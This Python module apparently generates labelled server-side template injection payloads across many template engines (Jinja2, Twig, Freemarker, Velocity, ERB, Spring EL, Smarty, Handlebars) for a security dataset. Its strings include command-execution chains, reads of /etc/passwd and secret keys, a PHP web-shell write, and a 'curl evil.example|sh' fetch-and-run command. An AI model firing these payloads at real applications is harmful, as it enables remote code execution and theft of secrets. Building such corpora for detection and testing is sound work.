"""Server-side template injection: an expression in the syntax of a template engine that
renders user text as a template.

Jinja2 (attribute chains to `os.popen`, subscripts, `|attr()`, `~` concatenation of
attribute names), Twig (`filter`/`map`/`sort` with `system`, `_self.env`), Freemarker
(`?new()` of Execute), Velocity (`#set` + Runtime), ERB, Thymeleaf/SpEL, Smarty, Mako, and
the arithmetic probes (`{{7*7}}`, `{{(7)*(7)}}`, `${7*7}`) that find such an engine."""

from __future__ import annotations

import random

from owncorpus.grammar import Attack, draw_distinct, one

CLASS = "ssti"
PARAMS = ("name", "template", "greeting", "subject", "q", "message", "title", "email", "content", "page")

COMMANDS = ("id", "whoami", "cat /etc/passwd", "uname -a", "ls /", "curl evil.example|sh", "env")
NUMBERS = (("7", "7"), ("(7)", "(7)"), ("1337", "1337"), ("7", "'7'"), ("'7'", "7"), ("9", "9"), ("(3)", "(3)"))


def _name(attr: str, rng: random.Random) -> str:
    """A dunder name as Jinja lets it be spelled: quoted, split with ~, hex-escaped."""
    form = rng.randrange(4)
    if form == 0:
        return f"'{attr}'"
    if form == 1:
        i = rng.randrange(2, len(attr) - 2)
        return f"'{attr[:i]}'~'{attr[i:]}'"
    if form == 2:
        return "'" + attr.replace("_", "\\x5f") + "'"
    return f"'{attr[:2]}'~'{attr[2:-2]}'~'{attr[-2:]}'"


def _jinja_chain(rng: random.Random) -> str:
    cmd = one(rng, COMMANDS)
    form = rng.randrange(8)
    if form == 0:
        root = one(rng, ("cycler", "joiner", "namespace", "lipsum", "self", "config", "request.application", "url_for",
                         "get_flashed_messages"))
        glob = "__globals__" if root not in ("self",) else "__init__.__globals__"
        init = "" if root in ("lipsum", "url_for", "get_flashed_messages", "request.application") or root == "self" else ".__init__"
        return f"{root}{init}.{glob}.os.popen('{cmd}').read()"
    if form == 1:
        return f"lipsum.__globals__['os'].popen('{cmd}').read()"
    if form == 2:
        return f"self.__init__.__globals__.__builtins__.__import__('os').popen('{cmd}').read()"
    if form == 3:
        return f"''.__class__.__mro__[1].__subclasses__()"
    if form == 4:
        return f"().__class__.__base__.__subclasses__()[{rng.randrange(100, 500)}]('{cmd}',shell=True,stdout=-1).communicate()"
    if form == 5:
        # attribute names built with ~ and reached through subscripts or |attr
        a, b = _name("__globals__", rng), _name("__builtins__", rng)
        if rng.random() < 0.5:
            return f"request|attr('application')|attr({a})|attr('__getitem__')({b})|attr('__getitem__')('__import__')('os')|attr('popen')('{cmd}')|attr('read')()"
        return f"cycler[{_name('__init__', rng)}][{a}]['os'].popen('{cmd}').read()"
    if form == 6:
        return one(rng, ("config.items()", "config['SECRET_KEY']", "settings.SECRET_KEY", "request.environ",
                         "self._TemplateReference__context"))
    return f"url_for.__globals__['current_app'].config"


def _jinja(rng: random.Random) -> str:
    sp = one(rng, ("", " ", "  "))
    if rng.random() < 0.3:
        a, b = one(rng, NUMBERS)
        expr = f"{a}{one(rng, ('*', ' * '))}{b}"
    else:
        expr = _jinja_chain(rng)
    form = rng.randrange(6)
    if form == 0:
        return f"{{%{sp}print({expr}){sp}%}}"
    if form == 1:
        return f"{{%{sp}set x={expr}{sp}%}}{{{{x}}}}"
    if form == 2 and "__subclasses__()" in expr and "[" not in expr.split("__subclasses__()")[1][:1]:
        return f"{{% for c in {expr} %}}{{% if 'warning' in c.__name__ %}}{{{{c()._module.__builtins__['__import__']('os').popen('id').read()}}}}{{% endif %}}{{% endfor %}}"
    return f"{{{{{one(rng, ('', '-'))}{sp}{expr}{sp}}}}}"


def _twig(rng: random.Random) -> str:
    cmd = one(rng, COMMANDS)
    return one(rng, (
        f"{{{{['{cmd}']|filter('system')}}}}", f"{{{{['{cmd}']|map('system')|join}}}}",
        f"{{{{['{cmd}',1]|sort('system')}}}}", f"{{{{['{cmd}']|reduce('system','')}}}}",
        f"{{{{_self.env.registerUndefinedFilterCallback('exec')}}}}{{{{_self.env.getFilter('{cmd}')}}}}",
        f"{{{{app.request.server.all|join(',')}}}}", f"{{{{'/etc/passwd'|file_excerpt(1,30)}}}}",
        f"{{{{['{cmd}']|filter('passthru')}}}}", f"{{{{{{'{cmd}':'system'}}|map('call_user_func')|join}}}}",
    ))


def _freemarker(rng: random.Random) -> str:
    cmd = one(rng, COMMANDS)
    return one(rng, (
        f'<#assign ex="freemarker.template.utility.Execute"?new()>${{ex("{cmd}")}}',
        f"[#assign ex='freemarker.template.utility.Execute'?new()]${{ex('{cmd}')}}",
        f'${{"freemarker.template.utility.Execute"?new()("{cmd}")}}',
        f'<#assign ob="freemarker.template.utility.ObjectConstructor"?new()>${{ob("java.lang.ProcessBuilder","{cmd}").start()}}',
        f"${{product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(' ')}}",
    ))


def _velocity(rng: random.Random) -> str:
    cmd = one(rng, COMMANDS)
    return one(rng, (
        f"#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('{cmd}'))$ex.waitFor()",
        f"$class.inspect('java.lang.Runtime').type.getRuntime().exec('{cmd}').waitFor()",
        f"#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"{cmd}\")",
    ))


def _erb(rng: random.Random) -> str:
    cmd = one(rng, COMMANDS)
    a, b = one(rng, NUMBERS[:3])
    sp = one(rng, (" ", ""))
    expr = one(rng, (f"{a}*{b}", f"system('{cmd}')", f"`{cmd}`", "File.open('/etc/passwd').read",
                     f"IO.popen('{cmd}').readlines()", f"%x({cmd})", "Dir.entries('/')", f"exec('{cmd}')"))
    return f"<%={sp}{expr}{sp}%>"


def _java_el(rng: random.Random) -> str:
    cmd = one(rng, COMMANDS)
    a, b = one(rng, NUMBERS[:3])
    return one(rng, (
        f"${{{a}*{b}}}", f"#{{{a}*{b}}}", f"*{{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}",
        f"${{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}",
        f"__${{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}__::.x",
        f"${{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('{cmd}')}}",
        f"#{{session.setAttribute('x',''.getClass().forName('java.lang.Runtime').getRuntime().exec('{cmd}'))}}",
        f"${{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('{cmd}').getInputStream()).next()}}",
    ))


def _others(rng: random.Random) -> str:
    cmd = one(rng, COMMANDS)
    return one(rng, (
        f"{{system('{cmd}')}}", f"{{php}}echo `{cmd}`;{{/php}}", f"{{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}}",
        f"${{self.module.cache.util.os.system('{cmd}')}}", f"<%import os%>${{os.popen('{cmd}').read()}}",
        f"{{{{#with \"s\" as |string|}}}}{{{{#with \"e\"}}}}{{{{this.pop}}}}{{{{#with string.split as |codelist|}}}}{{{{this.push \"return require('child_process').execSync('{cmd}');\"}}}}{{{{/with}}}}{{{{/with}}}}{{{{/with}}}}",
        f"#{{7*7}}", f"{{{{= global.process.mainModule.require('child_process').execSync('{cmd}') }}}}",
        f"<%= global.process.mainModule.require('child_process').execSync('{cmd}') %>",
        f"{{{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('{cmd}')\")()}}}}",
    ))


def _compose(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.45:
        return _jinja(rng)
    if r < 0.57:
        return _twig(rng)
    if r < 0.65:
        return _freemarker(rng)
    if r < 0.71:
        return _velocity(rng)
    if r < 0.80:
        return _erb(rng)
    if r < 0.91:
        return _java_el(rng)
    return _others(rng)


def attacks(rng: random.Random, n: int) -> list[Attack]:
    return [Attack(CLASS, p, PARAMS) for p in draw_distinct(rng, _compose, n)]
